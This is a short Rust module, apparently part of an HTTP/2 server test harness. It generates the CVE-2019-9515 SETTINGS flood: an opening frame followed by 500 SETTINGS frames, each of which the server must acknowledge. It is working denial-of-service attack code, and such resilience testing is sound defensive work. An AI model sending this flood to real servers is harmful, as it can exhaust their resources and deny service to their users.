//! CVE-2019-9515: settings without end, each of which has to be acknowledged.

use super::Attack;
use crate::support::h2::frame;

const FRAMES: u32 = 500;

pub(super) fn attack() -> Attack {
    Attack::flood("SETTINGS flood", frame::opening(&[]), burst)
}

fn burst(_: u32) -> Vec<u8> {
    let mut out = Vec::new();
    for number in 0..FRAMES {
        frame::push_settings(&mut out, &[(frame::HEADER_TABLE_SIZE, 4096 * (number % 2))]);
    }
    out
}
